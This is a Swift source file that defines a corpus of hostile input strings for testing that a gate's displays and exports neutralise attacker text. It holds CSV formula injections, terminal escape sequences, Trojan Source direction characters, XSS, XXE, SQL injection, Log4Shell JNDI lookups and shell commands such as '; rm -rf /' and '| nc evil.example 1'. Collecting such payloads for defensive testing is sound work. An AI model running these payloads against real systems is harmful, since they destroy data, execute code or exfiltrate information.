/// Texts that an attacker would have an administrator read: one corpus for every place where the gate shows what callers
/// wrote. Each must come out unable to do what it is for, and still be told apart from every other.
public enum HostileTexts {
    /// All of them. A NUL is among them; a store that keeps none writes U+FFFD instead.
    public static let all: [String] =
        formulas + terminal + direction + invisible + lines + markup + quoting + injections + escapes + stacks + [huge]

    /// A spreadsheet runs a cell that begins so (OWASP, CSV Injection).
    public static let formulas = [
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example/?\"&A1,\"open\")", "+1+1", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\"=1+1", "'=1+1", ";=1+1", ",=1+1", "a,=1+1", "a\",\"=1+1", "a;=1+1", "a\t=1+1",
        "\u{FF1D}1+1", "\u{FF0B}1", "\u{FF0D}1", "\u{FF20}SUM(1)", "\u{200B}=1+1", "\u{FEFF}=1+1", "\u{A0}=1+1", "=", "-", "%0A=1+1",
    ]

    /// ECMA-48 sequences: colour, cursor, title, hyperlink (OSC 8), clipboard (OSC 52), and their 8-bit forms.
    public static let terminal = [
        "\u{1B}[2J\u{1B}[H", "\u{1B}[31mDENIED\u{1B}[0m", "\u{1B}]0;owned\u{07}", "\u{1B}]52;c;ZXZpbA==\u{07}",
        "\u{1B}]8;;https://evil.example\u{1B}\\contoso\u{1B}]8;;\u{1B}\\", "\u{1B}P$q\u{1B}\\", "\u{1B}c", "\u{9B}2J", "\u{9D}0;owned\u{9C}",
        "approved\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}\u{8}denied", "\u{7F}\u{7F}", "\u{07}", "\u{0E}\u{0F}", "%1b[31m", "\\u001b[31m", "\\x1b[31m",
    ]

    /// Trojan Source (CVE-2021-42574): what is read is not what is there.
    public static let direction = [
        "guest\u{202E}moc.live@\u{202C}example.com", "\u{202A}a\u{202B}b\u{202D}c\u{202E}d", "\u{2066}a\u{2067}b\u{2068}c\u{2069}",
        "\u{200E}a\u{200F}b\u{061C}c", "\u{202E}", "abc\u{202E}",
    ]

    /// Characters that show nothing, or pass for a space.
    public static let invisible = [
        "ad\u{200B}min", "ad\u{200C}min", "ad\u{200D}min", "ad\u{2060}min", "\u{FEFF}admin", "ad\u{AD}min", "ad\u{34F}min",
        "\u{115F}\u{1160}\u{3164}\u{FFA0}",
        "a\u{A0}b", "a\u{3000}b", "a\u{2003}b", "\u{E0001}\u{E0061}\u{E0064}", "a\u{FE0F}b", "\u{180E}", "\u{FFF9}a\u{FFFA}b\u{FFFB}", "\u{E000}",
        "\u{10FFFF}", "\u{FFFE}", "",
        " ", "   padded   ",
    ]

    /// One text that would be several lines, or a forged line of a log.
    public static let lines = [
        "a\nb", "a\r\nb", "a\rb", "a\u{0B}b\u{0C}c", "a\u{85}b", "a\u{2028}b\u{2029}c",
        "ok\n2026-11-24T09:30:00Z notice gatekeeper: decided verdict=approved", "a\r\nSet-Cookie: evil=1\r\n\r\n<html>", "\n\n\n",
        "{\"id\":1}\n{\"id\":2}", "a\u{0}b", "\u{0}", "\u{1}\u{2}\u{3}\u{1F}",
    ]

    public static let markup = [
        "<script>alert(1)</script>", "</script><img src=x onerror=alert(1)>", "&lt;b&gt; &amp; &#x3c;", "<!--", "]]>",
        "<!DOCTYPE x [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
        "[contoso](https://evil.example)", "<https://evil.example|contoso>", "<!channel> <@U0001>", "`code` *bold* _it_ ~no~", "| a | b |",
        "javascript:alert(1)",
    ]

    public static let quoting = [
        "\"", "\"\"", "'", "''", "`", "\\", "\\\\", "\\\"", "a\"b", "a,b", "a;b", "a\tb", "\",\"", "\"\r\n\"", "a=b c=\"d\"", "] [x y=\"z\"", "%",
        "%%", "%s%n%x", "${x}",
    ]

    /// Text for an interpreter that must never see it as more than text.
    public static let injections = [
        "'; DROP TABLE entries; --", "\" OR 1=1 --", "%' OR '1'='1", "1); DELETE FROM bodies; --", "${jndi:ldap://evil.example/a}",
        "${${lower:j}ndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "<%= 7*7 %>", "$(reboot)", "`reboot`", "; rm -rf /", "| nc evil.example 1",
        "../../etc/passwd",
        "guest@fabrikam.com\u{0}@contoso.com", "*)(uid=*))(|(uid=*", "CON", "NUL",
    ]

    /// Escapes in the text itself: whoever decodes a second time is caught by them. A Swift string holds no lone
    /// surrogate; its escape it can hold, and the replacement character that stands where one was.
    public static let escapes = [
        "\\ud800", "\\udfff\\ud800", "\\u0000", "\\u003cscript\\u003e", "\\n", "\\u{1b}", "\u{FFFD}", "%00", "%0d%0aX: y", "&#10;", "=?utf-8?q?=0A?=",
        "\\N{U+202E}",
    ]

    /// Marks that pile up over the lines around, and clusters that are one character and many bytes.
    public static let stacks = [
        "Z" + String(repeating: "\u{0300}", count: 60), "a" + String(repeating: "\u{20DD}", count: 20), "e\u{301}", "\u{301}x",
        String(repeating: "\u{1F468}\u{200D}", count: 20) + "\u{1F466}", "\u{FDFD}", "\u{1F1E9}\u{1F1EA}",
        "g\u{0E49}\u{0E49}\u{0E49}\u{0E49}\u{0E49}\u{0E49}",
    ]

    /// Longer than any member of an entry may be.
    public static let huge = "=" + String(repeating: "long\u{1B}[31m\u{202E}", count: 20_000)
}
